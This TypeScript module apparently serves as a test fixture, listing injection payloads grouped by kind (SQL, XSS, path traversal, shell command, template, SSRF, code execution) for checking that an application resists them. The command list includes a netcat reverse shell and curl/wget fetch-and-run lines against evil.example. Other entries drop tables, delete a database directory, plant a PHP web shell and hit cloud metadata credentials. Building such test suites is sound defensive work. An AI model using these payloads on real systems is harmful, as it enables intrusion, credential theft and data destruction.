// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are what templates are attacked with
// Texts that attack whoever puts them into a statement, a page, a path, a command, a template or an address.

export type PayloadKind =
  | 'sql'
  | 'xss'
  | 'traversal'
  | 'command'
  | 'template'
  | 'ssrf'
  | 'code'
  | 'prototype';

export const PAYLOADS: Readonly<Record<Exclude<PayloadKind, 'prototype'>, readonly string[]>> = {
  sql: [
    // Always true, and comments.
    "' OR '1'='1",
    "' OR 1=1 --",
    "admin'--",
    "') OR ('1'='1",
    '1 OR 1=1',
    // Union.
    "' UNION SELECT email, password_hash FROM users --",
    "x' UNION ALL SELECT NULL, version(), NULL --",
    // More than one statement.
    "'; DROP TABLE cards; --",
    "1; DELETE FROM users WHERE 'a'='a",
    "'; UPDATE users SET email = 'a@b.c' WHERE id = 1; --",
    // Blind, by truth and by time.
    "' AND (SELECT count(*) FROM users) > 0 --",
    "' AND substring((SELECT password_hash FROM users LIMIT 1), 1, 1) = 's' --",
    "1' AND pg_sleep(50) --",
    "'; SELECT pg_sleep(50); --",
    // By errors, and what PostgreSQL alone has.
    "' AND 1=CAST((SELECT version()) AS int) --",
    "'; COPY users TO PROGRAM 'id'; --",
    "'||(SELECT current_setting('data_directory'))||'",
    // Encoded, and hidden in comments.
    "'/**/OR/**/1=1/**/--",
    "' UnIoN/**/SeLeCt/**/1,2,3 --",
  ],
  xss: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '<svg/onload=alert(document.domain)>',
    'javascript:alert(document.cookie)',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<body onload=alert(1)>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  ],
  traversal: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//etc/shadow',
    '/proc/self/environ',
    '..\\..\\..\\windows\\win.ini',
    '../../.env',
  ],
  command: [
    '; cat /etc/passwd',
    '| nc 10.0.0.1 4444 -e /bin/sh',
    '$(wget http://evil.example/x -O /tmp/x)',
    '`curl http://evil.example/x | sh`',
    '&& rm -rf /var/lib/postgresql',
    '() { :; }; /bin/bash -c id',
  ],
  template: [
    '{{7*7}}',
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    "{{constructor.constructor('return process')()}}",
    '{% import os %}{{ os.system("id") }}',
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://127.0.0.1:6379/',
    'http://localhost:9090/api/v1/admin/tsdb/delete_series',
    'http://[::1]:5432/',
    'http://0x7f000001/',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'file:///etc/passwd',
    'http://10.0.0.5/admin',
  ],
  code: [
    "require('child_process').exec('id')",
    "process.mainModule.require('fs').readFileSync('/etc/passwd')",
    '<?php system($_GET["c"]); ?>',
    '${jndi:ldap://evil.example/a}',
    '_$$ND_FUNC$$_function(){ return 1 }()',
  ],
};

export const allPayloads = Object.entries(PAYLOADS).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind: kind as PayloadKind, text })),
);
